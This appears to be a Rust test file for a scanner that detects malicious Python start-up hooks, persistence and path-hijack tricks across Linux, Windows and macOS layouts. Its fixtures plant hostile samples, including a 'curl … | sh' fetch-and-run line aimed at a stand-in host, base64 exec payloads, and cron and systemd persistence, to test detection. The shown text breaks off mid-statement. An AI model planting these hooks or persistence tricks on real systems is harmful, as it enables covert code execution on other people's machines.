//! A whole host under `--root`: a fake filesystem built by writing files (no Python runs) with
//! several users, system and user sites, a venv deep in a project, a conda env, a pyenv
//! interpreter, a pipx venv, planted persistence, an unowned hook, a modified file.

use std::path::Path;

use base64::Engine;
use sha2::Digest;

use crate::util::*;

fn put(root: &Path, rel: &str, data: &[u8]) {
    let p = root.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, data).unwrap();
}

/// The JSON report of `pthscan --root ROOT`.
fn scan_root(root: &Path) -> serde_json::Value {
    let out = pthscan(&["--root", root.to_str().unwrap(), "--format", "json"]);
    serde_json::from_slice(&out.stdout).unwrap()
}

/// The finding of `rule` whose path ends with `tail`; the report when there is none.
fn finding<'a>(json: &'a serde_json::Value, rule: &str, tail: &str) -> &'a serde_json::Value {
    json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == rule && f["location"]["path"].as_str().unwrap().ends_with(tail))
        .unwrap_or_else(|| panic!("{json:#}"))
}

fn row(rel: &str, data: &[u8]) -> String {
    let d = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(data));
    format!("{rel},sha256={d},{}\n", data.len())
}

/// Installs a distribution the way pip does: files, METADATA, RECORD listing them all.
/// `files` are (path relative to the site directory, content as recorded, content on disk).
fn install(
    root: &Path,
    site: &str,
    dist: &str,
    files: &[(&str, &[u8], &[u8])],
    extra: &[(&str, &str)],
) {
    let info = format!("{dist}-1.0.dist-info");
    let mut record = String::new();
    for (rel, recorded, on_disk) in files {
        put(root, &format!("{site}/{rel}"), on_disk);
        record.push_str(&row(rel, recorded));
    }
    let meta = format!("Metadata-Version: 2.1\nName: {dist}\nVersion: 1.0\n\n");
    put(root, &format!("{site}/{info}/METADATA"), meta.as_bytes());
    record.push_str(&row(&format!("{info}/METADATA"), meta.as_bytes()));
    for (name, text) in extra {
        put(root, &format!("{site}/{info}/{name}"), text.as_bytes());
        record.push_str(&row(&format!("{info}/{name}"), text.as_bytes()));
    }
    record.push_str(&format!("{info}/RECORD,,\n"));
    put(root, &format!("{site}/{info}/RECORD"), record.as_bytes());
}

const STEALER_PTH: &[u8] =
    b"import os;exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\n";

pub fn build_host(r: &Path) {
    // system interpreter, Debian layout, apport's sitecustomize
    put(r, "usr/lib/python3.12/os.py", b"# os\n");
    put(
        r,
        "usr/lib/python3/dist-packages/apt/__init__.py",
        b"# apt\n",
    );
    put(
        r,
        "etc/python3.12/sitecustomize.py",
        b"# install the apport exception handler if available\ntry:\n    import apport_python_hook\nexcept ImportError:\n    pass\nelse:\n    apport_python_hook.install()\n",
    );
    // /usr/local: requests modified after install, an unowned hook, a planted module
    let local = "usr/local/lib/python3.12/site-packages";
    put(r, "usr/local/lib/python3.12/os.py", b"# os\n");
    install(
        r,
        local,
        "requests",
        &[
            (
                "requests/__init__.py",
                b"from .api import get\n",
                b"from .api import get\nimport requests._ca\n",
            ),
            (
                "requests/api.py",
                b"def get(u): pass\n",
                b"def get(u): pass\n",
            ),
        ],
        &[],
    );
    put(
        r,
        &format!("{local}/requests/_telemetry.py"),
        b"import socket\n",
    );
    put(r, &format!("{local}/zz_sysmon.pth"), STEALER_PTH);
    // users: ann with a user site and a pyenv interpreter, bob with a pipx venv
    install(
        r,
        "home/ann/.local/lib/python3.12/site-packages",
        "rich",
        &[("rich/__init__.py", b"x = 1\n", b"x = 1\n")],
        &[],
    );
    put(
        r,
        "home/ann/.pyenv/versions/3.11.9/lib/python3.11/os.py",
        b"# os\n",
    );
    install(
        r,
        "home/ann/.pyenv/versions/3.11.9/lib/python3.11/site-packages",
        "pip",
        &[("pip/__init__.py", b"", b"")],
        &[],
    );
    put(
        r,
        "home/bob/.local/share/pipx/venvs/black/pyvenv.cfg",
        b"version = 3.12.3\n",
    );
    install(
        r,
        "home/bob/.local/share/pipx/venvs/black/lib/python3.12/site-packages",
        "black",
        &[("black/__init__.py", b"", b"")],
        &[],
    );
    // a venv deep in a project, with a console script named sudo
    put(
        r,
        "srv/work/proj/services/api/.venv/pyvenv.cfg",
        b"version = 3.12.3\n",
    );
    install(
        r,
        "srv/work/proj/services/api/.venv/lib/python3.12/site-packages",
        "colorlib",
        &[("colorlib/__init__.py", b"", b"")],
        &[(
            "entry_points.txt",
            "[console_scripts]\nsudo = colorlib.cli:main\ncolorlib = colorlib.cli:main\n",
        )],
    );
    // a conda env whose package record owns its .pth
    put(r, "opt/conda/conda-meta/history", b"");
    put(
        r,
        "opt/conda/conda-meta/matplotlib-3.8.0-py311.json",
        br#"{"name": "matplotlib", "files": ["lib/python3.11/site-packages/matplotlib-3.8.0-py3.11-nspkg.pth", "lib/python3.11/site-packages/matplotlib/__init__.py"]}"#,
    );
    put(
        r,
        "opt/conda/lib/python3.11/site-packages/matplotlib/__init__.py",
        b"x = 1\n",
    );
    put(
        r,
        "opt/conda/lib/python3.11/site-packages/matplotlib-3.8.0-py3.11-nspkg.pth",
        b"import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('mpl_toolkits',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('mpl_toolkits', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('mpl_toolkits', [os.path.dirname(p)])));m = m or sys.modules.setdefault('mpl_toolkits', types.ModuleType('mpl_toolkits'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n",
    );
    // persistence the TeamPCP payload leaves, and a cron job from /var/tmp
    put(r, "home/ann/.config/sysmon/sysmon.py", b"");
    put(
        r,
        "home/ann/.config/systemd/user/sysmon.service",
        b"[Unit]\nDescription=System Telemetry Service\n[Service]\nExecStart=/usr/bin/python3 /home/ann/.config/sysmon/sysmon.py\nRestart=always\n",
    );
    put(
        r,
        "etc/cron.d/updater",
        b"*/10 * * * * root /usr/bin/python3 /var/tmp/.u/u.py\n",
    );
    put(r, "root/.bashrc", b"export PYTHONSTARTUP=/dev/shm/.s.py\n");
    // a kernel view that must never be walked
    put(
        r,
        "proc/1/root/usr/lib/python3.12/site-packages/evil.pth",
        STEALER_PTH,
    );
}

#[test]
fn a_host_under_root_lists_every_environment_and_finds_what_was_planted() {
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path();
    build_host(r);
    let out = pthscan(&["--root", r.to_str().unwrap(), "--format", "json"]);
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let root = std::fs::canonicalize(r).unwrap();
    let rel = |p: &str| {
        p.strip_prefix(&format!("{}/", root.display()))
            .unwrap_or(p)
            .to_owned()
    };
    let mut envs: Vec<(String, String, usize)> = json["environments"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                rel(e["root"].as_str().unwrap()),
                e["kind"].as_str().unwrap().to_owned(),
                e["distributions"].as_u64().unwrap() as usize,
            )
        })
        .collect();
    envs.sort();
    let want: Vec<(String, String, usize)> = [
        ("etc/python3.12", "dist-config", 0),
        ("home/ann/.local", "user-site", 1),
        ("home/ann/.pyenv/versions/3.11.9", "interpreter", 1),
        ("home/bob/.local/share/pipx/venvs/black", "venv", 1),
        ("opt/conda", "conda", 0),
        ("srv/work/proj/services/api/.venv", "venv", 1),
        ("usr", "interpreter", 0),
        ("usr/local", "interpreter", 1),
    ]
    .iter()
    .map(|(a, b, c)| (a.to_string(), b.to_string(), *c))
    .collect();
    assert_eq!(envs, want, "{json:#}");

    let found: Vec<(String, String, String)> = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["rule"].as_str().unwrap().to_owned(),
                f["severity"].as_str().unwrap().to_owned(),
                rel(f["location"]["path"].as_str().unwrap()),
            )
        })
        .collect();
    let has = |rule: &str, sev: &str, path: &str| {
        found
            .iter()
            .any(|(r, s, p)| r == rule && s == sev && p == path)
    };
    let local = "usr/local/lib/python3.12/site-packages";
    for (rule, sev, path) in [
        ("INT003", "high", format!("{local}/zz_sysmon.pth")),
        ("INT004", "medium", format!("{local}/requests/_telemetry.py")),
        ("INT002", "low", format!("{local}/requests/__init__.py")),
        ("EP001", "high", "srv/work/proj/services/api/.venv/lib/python3.12/site-packages/colorlib-1.0.dist-info/entry_points.txt".into()),
        ("ioc-path-teampcp-sysmon", "critical", "home/ann/.config/sysmon/sysmon.py".into()),
        ("PER001", "high", "home/ann/.config/systemd/user/sysmon.service".into()),
        ("PER001", "high", "etc/cron.d/updater".into()),
        ("PER002", "high", "root/.bashrc".into()),
        ("CUS001", "info", "etc/python3.12/sitecustomize.py".into()),
    ] {
        assert!(has(rule, sev, &path), "{rule} {sev} {path}\n{found:#?}");
    }
    // owned by its conda record: a known hook at info, no ownership finding
    assert!(
        !found
            .iter()
            .any(|(r, _, p)| r.starts_with("INT") && p.starts_with("opt/conda")),
        "{found:#?}"
    );
    // nothing from the kernel view, and nothing outside the root
    assert!(
        !found
            .iter()
            .any(|(_, _, p)| p.starts_with("proc/") || p.starts_with('/')),
        "{found:#?}"
    );
    assert_eq!(code(&out), 1, "{}", stderr(&out));
}

/// The findings and what was scanned, the parts of a report that say what a run looked at.
fn what_was_judged(out: &std::process::Output) -> (serde_json::Value, serde_json::Value, u64) {
    let json: serde_json::Value =
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", stderr(out)));
    (
        json["findings"].clone(),
        json["scanned"].clone(),
        json["summary"]["artifacts"].as_u64().unwrap(),
    )
}

#[test]
fn a_path_naming_the_filesystem_root_is_the_host_sweep() {
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path();
    put(r, "srv/venv/pyvenv.cfg", b"version = 3.12.4\n");
    put(
        r,
        "srv/venv/lib/python3.12/site-packages/zz.pth",
        b"import os; os.system('id')\n",
    );
    // a wheel lying in a project folder: a wheelhouse's, not a cache's
    let hook: &[u8] = b"import os; os.system('id')\n";
    let wheel = zip_of(&[
        ("evil.pth", hook),
        ("evil-1.0.dist-info/METADATA", b"Name: evil\nVersion: 1.0\n"),
    ]);
    put(r, "srv/dist/evil-1.0-py3-none-any.whl", &wheel);
    // and the same wheel in root's pip cache, which a sweep does open
    put(
        r,
        "root/.cache/pip/wheels/ab/cd/cached-1.0-py3-none-any.whl",
        &wheel,
    );
    let root = r.to_str().unwrap();
    let run = |extra: &[&str]| {
        let mut args = vec!["--root", root, "--format", "json"];
        args.extend_from_slice(extra);
        pthscan(&args)
    };
    let sweep = what_was_judged(&run(&[]));
    let in_wheel = |v: &(serde_json::Value, serde_json::Value, u64), name: &str| {
        v.0.as_array()
            .unwrap()
            .iter()
            .any(|f| f["location"]["path"].as_str().unwrap().contains(name))
    };
    assert!(in_wheel(&sweep, "zz.pth"), "{:#}", sweep.0);
    assert!(
        in_wheel(&sweep, "cached-1.0-py3-none-any.whl"),
        "{:#}",
        sweep.0
    );
    assert!(
        !in_wheel(&sweep, "evil-1.0-py3-none-any.whl"),
        "{:#}",
        sweep.0
    );
    assert_eq!(sweep.2, 1, "only the cached wheel is opened");
    // `/`, `.`, `//`, `/..` and the root itself are the same sweep, exactly
    let canonical = std::fs::canonicalize(r).unwrap();
    for path in ["/", ".", "//", "/..", root, canonical.to_str().unwrap()] {
        let out = run(&[path]);
        assert_eq!(what_was_judged(&out), sweep, "PATH `{path}`");
        assert_eq!(code(&out), 1, "{}", stderr(&out));
    }
    // a directory inside it, given alone, is a wheelhouse: every archive in it is opened
    let dist = what_was_judged(&run(&["/srv/dist"]));
    assert!(in_wheel(&dist, "evil-1.0-py3-none-any.whl"), "{:#}", dist.0);
    // given beside the root, it is swept with the host's rules, and that is said
    let out = run(&["/", "/srv/dist"]);
    assert_eq!(what_was_judged(&out), sweep);
    assert!(
        stderr(&out).contains("swept with the host's rules"),
        "{}",
        stderr(&out)
    );
}

/// A mounted Windows or macOS disk: each layout's site directories found under `--root`, the
/// Windows prefix as the site directory `site` makes it (a `.pth` at the top of an
/// installation or a venv runs), and user sites told apart from installations.
#[test]
fn windows_and_macos_layouts_under_root_are_found() {
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path();
    let hook = b"import os; os.system('curl -s http://x.invalid | sh')\n";
    let win = "Users/ann/AppData/Local/Programs/Python/Python312";
    let roaming = "Users/ann/AppData/Roaming/Python/Python312";
    let venv = "proj/.venv";
    let framework = "Library/Frameworks/Python.framework/Versions/3.12";
    let mac_user = "Users/bob/Library/Python/3.12";
    for site in [
        format!("{win}/Lib/site-packages"),
        format!("{roaming}/site-packages"),
        format!("{venv}/Lib/site-packages"),
        format!("{framework}/lib/python3.12/site-packages"),
        format!("{mac_user}/lib/python/site-packages"),
    ] {
        put(r, &format!("{site}/e.pth"), hook);
    }
    put(r, &format!("{win}/top.pth"), hook);
    put(r, &format!("{win}/python.exe"), b"MZ");
    put(r, &format!("{venv}/top.pth"), hook);
    put(
        r,
        &format!("{venv}/pyvenv.cfg"),
        b"home = C:\\Python312\nversion = 3.12.1\n",
    );
    let json = scan_root(r);
    let hooks: Vec<String> = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "PTH001")
        .map(|f| {
            let p = f["location"]["path"].as_str().unwrap();
            p.strip_prefix(r.to_str().unwrap()).unwrap()[1..].to_owned()
        })
        .collect();
    for want in [
        format!("{win}/Lib/site-packages/e.pth"),
        format!("{win}/top.pth"),
        format!("{roaming}/site-packages/e.pth"),
        format!("{venv}/Lib/site-packages/e.pth"),
        format!("{venv}/top.pth"),
        format!("{framework}/lib/python3.12/site-packages/e.pth"),
        format!("{mac_user}/lib/python/site-packages/e.pth"),
    ] {
        assert_eq!(
            hooks.iter().filter(|h| **h == want).count(),
            1,
            "{want} once: {hooks:#?}"
        );
    }
    let envs: Vec<(String, String, String)> = json["environments"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            let root = e["root"].as_str().unwrap();
            (
                root.strip_prefix(r.to_str().unwrap()).unwrap()[1..].to_owned(),
                e["kind"].as_str().unwrap().to_owned(),
                e["python"].as_str().unwrap_or("?").to_owned(),
            )
        })
        .collect();
    for (root, kind) in [
        (win, "interpreter"),
        (roaming, "user-site"),
        (venv, "venv"),
        (framework, "interpreter"),
        (mac_user, "user-site"),
    ] {
        assert!(
            envs.contains(&(root.to_owned(), kind.to_owned(), "3.12".to_owned())),
            "{root} {kind} 3.12: {envs:#?}"
        );
    }
}

/// `PYTHONPATH` set in `/etc/environment` or a unit's `Environment=` puts a directory before
/// the standard library: a `sitecustomize.py` there is reported with where it was set.
#[test]
fn pythonpath_set_on_the_host_puts_its_directory_on_the_path() {
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path();
    let hook = b"import os\nos.system('curl -s http://x.invalid | sh')\n";
    put(r, "usr/local/lib/python3.12/os.py", b"# os\n");
    put(
        r,
        "usr/local/lib/python3.12/site-packages/ok.py",
        b"x = 1\n",
    );
    put(r, "etc/environment", b"PYTHONPATH=\"/opt/login\"\n");
    put(r, "opt/login/sitecustomize.py", hook);
    put(
        r,
        "etc/systemd/system/app.service",
        b"[Service]\nEnvironment=\"PYTHONPATH=/srv/unit\" LANG=C\nExecStart=/usr/local/bin/python3 -m app\n",
    );
    put(r, "srv/unit/sitecustomize.py", hook);
    let json = scan_root(r);
    for (file, set_in) in [
        (
            "opt/login/sitecustomize.py",
            "etc/environment:1, every login session",
        ),
        (
            "srv/unit/sitecustomize.py",
            "app.service:2, service app.service",
        ),
    ] {
        let f = json["findings"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| {
                f["rule"] == "CUS001" && f["location"]["path"].as_str().unwrap().ends_with(file)
            })
            .unwrap_or_else(|| panic!("{file}: {json:#}"));
        assert_eq!(f["severity"], "high");
        assert!(
            f["notes"]
                .as_array()
                .unwrap()
                .iter()
                .any(|n| n.as_str().unwrap().contains(set_in)),
            "{f:#}"
        );
    }
}

/// A hook of a hook: start-up code that calls `site.addsitedir("/dir")` makes `site` process
/// that directory's `.pth` files too. They are judged as hooks, and say why.
#[test]
fn a_directory_start_up_code_adds_with_addsitedir_is_a_site_directory() {
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path();
    put(r, "venv/pyvenv.cfg", b"home = /usr/bin\nversion = 3.12.4\n");
    put(
        r,
        "venv/lib/python3.12/site-packages/boot.pth",
        b"import site; site.addsitedir('/var/cache/.lib')\n",
    );
    put(
        r,
        "var/cache/.lib/evil.pth",
        b"import os; os.system('curl -s http://x.invalid | sh')\n",
    );
    let json = scan_root(r);
    let f = finding(&json, "PTH001", "var/cache/.lib/evil.pth");
    assert_eq!(f["severity"], "high");
    assert!(
        f["notes"]
            .as_array()
            .unwrap()
            .iter()
            .any(|n| n.as_str().unwrap().contains("site.addsitedir")),
        "{f:#}"
    );
}

/// On a Windows installation `DLLs` and `Lib` come before the site directories: a
/// `sitecustomize` there is judged, and the module it imports is found as Windows finds it (a
/// `.cp312-win_amd64.pyd`, whose strings the payload rules read).
#[test]
fn windows_installation_search_order_is_judged() {
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path();
    let win = "Users/ann/AppData/Local/Programs/Python/Python312";
    put(r, &format!("{win}/python.exe"), b"MZ");
    put(
        r,
        &format!("{win}/DLLs/sitecustomize.py"),
        b"import _winboot\n",
    );
    put(
        r,
        &format!("{win}/Lib/site-packages/sitecustomize.py"),
        b"# clean\n",
    );
    put(
        r,
        &format!("{win}/Lib/site-packages/_winboot.cp312-win_amd64.pyd"),
        b"MZ\0\0import os; os.system('curl -s http://x.invalid/p | sh')\0",
    );
    let json = scan_root(r);
    let found: Vec<(String, String, String)> = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let p = f["location"]["path"].as_str().unwrap();
            (
                f["rule"].as_str().unwrap().to_owned(),
                f["severity"].as_str().unwrap().to_owned(),
                p.strip_prefix(r.to_str().unwrap()).unwrap()[1..].to_owned(),
            )
        })
        .collect();
    let has = |rule: &str, sev: &str, path: &str| {
        found
            .iter()
            .any(|(r, s, p)| r == rule && s == sev && p == &format!("{win}/{path}"))
    };
    assert!(
        has("CUS001", "medium", "DLLs/sitecustomize.py"),
        "{found:#?}"
    );
    assert!(
        found
            .iter()
            .any(|(_, s, p)| p.ends_with("_winboot.cp312-win_amd64.pyd")
                && (s == "high" || s == "critical")),
        "{found:#?}"
    );
}

/// A Windows disk read from Linux keeps each name as it was made: `LIB\Site-Packages` is the
/// `Lib\site-packages` Windows opens for `site`, while a module is imported by its exact name
/// (`SITECUSTOMIZE.py` is not `sitecustomize`), a package's `__init__` by a stat that ignores
/// case (`sitecustomize/__INIT__.PY` runs), and `.pyw` is source. An embeddable distribution (`python312._pth`
/// beside `python.exe`) runs the `.pth` files of its folder only when its `._pth` says
/// `import site`.
#[test]
fn a_windows_disk_is_read_as_windows_opens_it() {
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path();
    let hook = b"import os; os.system('curl -s http://x.invalid | sh')\n";
    let decode = b"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n";
    let inst = "Tools/Python311";
    put(r, &format!("{inst}/python.exe"), b"MZ");
    put(r, &format!("{inst}/LIB/Site-Packages/e.pth"), hook);
    put(
        r,
        &format!("{inst}/LIB/Site-Packages/sitecustomize.py"),
        decode,
    );
    put(r, &format!("{inst}/top.pth"), hook);
    let other = "Tools/Python310";
    put(r, &format!("{other}/python.exe"), b"MZ");
    put(
        r,
        &format!("{other}/Lib/site-packages/SITECUSTOMIZE.py"),
        decode,
    );
    let emb = "App/python";
    put(r, &format!("{emb}/python.exe"), b"MZ");
    put(r, &format!("{emb}/python312.dll"), b"MZ");
    put(
        r,
        &format!("{emb}/python312._pth"),
        b"python312.zip\r\n.\r\n\r\n# Uncomment to run site.main() automatically\r\nimport site\r\n",
    );
    put(r, &format!("{emb}/hook.pth"), hook);
    let quiet = "Game/python";
    put(r, &format!("{quiet}/python.exe"), b"MZ");
    put(r, &format!("{quiet}/python311.dll"), b"MZ");
    put(
        r,
        &format!("{quiet}/python311._pth"),
        b"python311.zip\r\n.\r\nLib\\site-packages\r\n#import site\r\n",
    );
    put(r, &format!("{quiet}/hook.pth"), hook);
    put(r, &format!("{quiet}/Lib/site-packages/dep.pth"), hook);
    // a `._pth` named in capitals, opened by getpath as Windows opens any file
    let caps = "Caps/python";
    put(r, &format!("{caps}/python.exe"), b"MZ");
    put(r, &format!("{caps}/python312.dll"), b"MZ");
    put(
        r,
        &format!("{caps}/PYTHON312._PTH"),
        b"python312.zip\r\n.\r\nimport site\r\n",
    );
    put(r, &format!("{caps}/hook.pth"), hook);
    // an application's own executable beside the DLL: getpath opens `app._pth`
    let app = "Game/bin";
    put(r, &format!("{app}/app.exe"), b"MZ");
    put(r, &format!("{app}/python312.dll"), b"MZ");
    put(
        r,
        &format!("{app}/app._pth"),
        b"python312.zip\r\n.\r\nimport site\r\n",
    );
    put(r, &format!("{app}/hook.pth"), hook);
    // an embeddable distribution whose `._pth` was deleted so that `site` runs: the zip
    // beside its DLL makes the folder the prefix, a site directory
    let unlocked = "Tool/python";
    put(r, &format!("{unlocked}/python.exe"), b"MZ");
    put(r, &format!("{unlocked}/python311.dll"), b"MZ");
    let empty_zip = [b"PK\x05\x06".as_slice(), &[0u8; 18]].concat();
    put(r, &format!("{unlocked}/python311.zip"), &empty_zip);
    put(r, &format!("{unlocked}/hook.pth"), hook);
    // an installation with no `Lib\site-packages`: `Lib\os.py` is getpath's landmark
    let bare = "Opt/py";
    put(r, &format!("{bare}/python.exe"), b"MZ");
    put(r, &format!("{bare}/python310.dll"), b"MZ");
    put(r, &format!("{bare}/Lib/OS.py"), b"");
    put(r, &format!("{bare}/top.pth"), hook);
    // `import site` past 70 KB of padding: 3.10's getpath reads every line of a `._pth`
    let padded = "Pad/python";
    put(r, &format!("{padded}/python.exe"), b"MZ");
    put(r, &format!("{padded}/python310.dll"), b"MZ");
    let text = format!(
        "python310.zip\r\n.\r\n{}\r\nimport site\r\n",
        "#".repeat(70_000)
    );
    put(r, &format!("{padded}/python310._pth"), text.as_bytes());
    put(r, &format!("{padded}/hook.pth"), hook);
    // `import site` at the end of a comment line over 260 bytes: 3.6–3.10 read a `._pth` in
    // pieces of 260 bytes, and the last piece is a line of its own; 3.11+ read the comment
    let chunked = "Chunk/python";
    let long_comment = format!("python310.zip\r\n.\r\n#{}import site\r\n", "x".repeat(259));
    put(r, &format!("{chunked}/python.exe"), b"MZ");
    put(r, &format!("{chunked}/python310.dll"), b"MZ");
    put(
        r,
        &format!("{chunked}/python310._pth"),
        long_comment.as_bytes(),
    );
    put(r, &format!("{chunked}/hook.pth"), hook);
    let chunked_new = "Chunk/new";
    put(r, &format!("{chunked_new}/python.exe"), b"MZ");
    put(r, &format!("{chunked_new}/python311.dll"), b"MZ");
    put(
        r,
        &format!("{chunked_new}/python311._pth"),
        long_comment.as_bytes(),
    );
    put(r, &format!("{chunked_new}/hook.pth"), hook);
    // `import site` after a BOM is a path line to every version
    let bom = "Bom/python";
    put(r, &format!("{bom}/python.exe"), b"MZ");
    put(r, &format!("{bom}/python312.dll"), b"MZ");
    put(
        r,
        &format!("{bom}/python312._pth"),
        "\u{feff}import site\r\n".as_bytes(),
    );
    put(r, &format!("{bom}/hook.pth"), hook);
    // an installation whose `Lib` is spelt in lower case: `python.exe` says it is Windows'
    let lower = "Tools/Python312";
    put(r, &format!("{lower}/python.exe"), b"MZ");
    put(
        r,
        &format!("{lower}/lib/site-packages/sitecustomize.py"),
        decode,
    );
    put(r, &format!("{lower}/top.pth"), hook);
    // a venv whose `pyvenv.cfg` is spelt in capitals: getpath and `site` open it by name
    let caps_venv = "Envs/tool";
    put(r, &format!("{caps_venv}/Scripts/python.exe"), b"MZ");
    put(
        r,
        &format!("{caps_venv}/PYVENV.CFG"),
        b"home = C:\\Tools\\Python311\r\nversion = 3.11.4\r\n",
    );
    put(r, &format!("{caps_venv}/Lib/site-packages/v.pth"), hook);
    // a third red team's `._pth` files: an empty one is no `._pth` to 3.11+ (site runs); a
    // stray `python311._pth` beside `python312.dll` is not the DLL's; `pythonw.exe` reads its
    // own; 3.6–3.10 split a line at `;`; Win32 drops a path's trailing dot; a debug build
    let win_emb = |dir: &str, dll: &str, files: &[(&str, &[u8])]| {
        put(r, &format!("{dir}/python.exe"), b"MZ");
        put(r, &format!("{dir}/{dll}.dll"), b"MZ");
        put(r, &format!("{dir}/{dll}.zip"), &empty_zip);
        for (name, bytes) in files {
            put(r, &format!("{dir}/{name}"), bytes);
        }
    };
    let truncated = "Trunc/py";
    win_emb(
        truncated,
        "python312",
        &[("python312._pth", b""), ("hook.pth", hook)],
    );
    let stray = "Stray/py";
    win_emb(
        stray,
        "python312",
        &[
            ("python311._pth", b"python311.zip\r\n.\r\n"),
            ("hook.pth", hook),
        ],
    );
    let twin = "Twin/py";
    win_emb(
        twin,
        "python312",
        &[
            ("pythonw.exe", b"MZ"),
            ("python._pth", b"python312.zip\r\n.\r\n"),
            ("pythonw._pth", b"python312.zip\r\n.\r\nimport site\r\n"),
            ("hook.pth", hook),
        ],
    );
    win_emb(
        "Semi/py",
        "python310",
        &[(
            "python310._pth",
            b"python310.zip\r\n.\r\nx;C:\\Semi\\evil\r\nimport site\r\n",
        )],
    );
    put(r, "Semi/evil/sitecustomize.py", decode);
    win_emb(
        "Dot/py",
        "python312",
        &[(
            "python312._pth",
            b"python312.zip\r\n.\r\nC:\\Dot\\vendor.\r\nimport site\r\n",
        )],
    );
    put(r, "Dot/vendor/sitecustomize.py", decode);
    let debug = "Debug/py";
    put(r, &format!("{debug}/python_d.exe"), b"MZ");
    put(r, &format!("{debug}/python312_d.dll"), b"MZ");
    put(
        r,
        &format!("{debug}/python312_d._pth"),
        b"python312_d.zip\r\n.\r\nimport site\r\n",
    );
    put(r, &format!("{debug}/hook.pth"), hook);
    // a `._pth` that lists its own folder before the standard library's zip: `encodings`
    // there runs at every start, before any hook
    win_emb(
        "Shadow/py",
        "python312",
        &[
            ("python312._pth", b".\r\npython312.zip\r\n"),
            ("encodings/__init__.py", hook),
        ],
    );
    // a `pyvenv.cfg` beside an installation's own `python.exe`: up to 3.13 `site.venv()`
    // makes the folder above it `sys.prefix`, and a `.pth` there runs; a venv's parent is not
    put(r, "Drive/Python312/python.exe", b"MZ");
    put(r, "Drive/Python312/python312.dll", b"MZ");
    put(r, "Drive/Python312/Lib/os.py", b"");
    put(
        r,
        "Drive/Python312/pyvenv.cfg",
        b"home = C:\\Drive\\Python312\r\n",
    );
    put(r, "Drive/evil.pth", hook);
    put(r, "Envs/stray.pth", hook);
    // a fourth red team's shadows: 3.11.1+ put the prefix where a missing `DLLs` would be,
    // before `Lib`; a `pythonXY.zip` beside an installation's own `Lib` comes first and no
    // installer ships one; `os` imports `ntpath` on Windows
    for (dir, zip) in [
        ("NoDlls/Python312", None),
        ("Zipped/Python312", Some("python312.zip")),
    ] {
        put(r, &format!("{dir}/python.exe"), b"MZ");
        put(r, &format!("{dir}/python312.dll"), b"MZ");
        put(r, &format!("{dir}/Lib/os.py"), b"");
        put(r, &format!("{dir}/Lib/encodings/__init__.py"), b"");
        put(r, &format!("{dir}/Lib/site-packages/six.py"), b"");
        match zip {
            None => put(r, &format!("{dir}/encodings/__init__.py"), hook),
            Some(name) => {
                put(r, &format!("{dir}/DLLs/_socket.pyd"), b"MZ");
                put(
                    r,
                    &format!("{dir}/{name}"),
                    &zip_of(&[("encodings/__init__.py", hook)]),
                );
            }
        }
    }
    win_emb(
        "NtPath/py",
        "python310",
        &[(
            "python310._pth",
            b"C:\\NtPath\\evil\r\npython310.zip\r\n.\r\n",
        )],
    );
    put(r, "NtPath/evil/ntpath.py", hook);
    // getpath's build markers: `pybuilddir.txt` beside `python.exe`, `Modules\Setup.local` two
    // folders above it
    put(r, "Built/Python312/python.exe", b"MZ");
    put(r, "Built/Python312/DLLs/_socket.pyd", b"MZ");
    put(r, "Built/Python312/Lib/site-packages/six.py", b"");
    put(r, "Built/Python312/pybuilddir.txt", b"C:\\Evil\r\n");
    put(r, "Up/a/Python313/python.exe", b"MZ");
    put(r, "Up/a/Python313/DLLs/_socket.pyd", b"MZ");
    put(r, "Up/a/Python313/Lib/site-packages/six.py", b"");
    put(r, "Up/Modules/Setup.local", b"");
    // a `;` in an embeddable distribution's folder: 3.11+ split its `home` there, and `site`
    // reads the prefix before it
    win_emb(
        "Split/a;b/py",
        "python312",
        &[("python312._pth", b"python312.zip\r\n.\r\nimport site\r\n")],
    );
    put(r, "Split/a/evil.pth", hook);
    // a `pyvenv.cfg` beside an installation's own `python.exe` sending getpath elsewhere
    put(r, "Sent/Python310/python.exe", b"MZ");
    put(r, "Sent/Python310/python310.dll", b"MZ");
    put(r, "Sent/Python310/Lib/site-packages/six.py", b"");
    put(r, "Sent/Python310/pyvenv.cfg", b"home = C:\\Evil\r\n");
    // a path line in Windows' own separators (pywin32.pth's `win32\lib`)
    let pywin = "Tools/Python39";
    put(r, &format!("{pywin}/python.exe"), b"MZ");
    put(
        r,
        &format!("{pywin}/Lib/site-packages/paths.pth"),
        b"win32\\lib\r\n",
    );
    put(
        r,
        &format!("{pywin}/Lib/site-packages/win32/lib/sitecustomize.py"),
        decode,
    );
    // a package whose `__init__` is spelt in capitals: Python 3 stats it, NTFS finds it
    let pkg = "Tools/Python313";
    put(r, &format!("{pkg}/python.exe"), b"MZ");
    put(
        r,
        &format!("{pkg}/Lib/site-packages/sitecustomize/__INIT__.PY"),
        decode,
    );
    // a customize module with the source suffix Windows adds
    let pyw = "Tools/Python38";
    put(r, &format!("{pyw}/python.exe"), b"MZ");
    put(
        r,
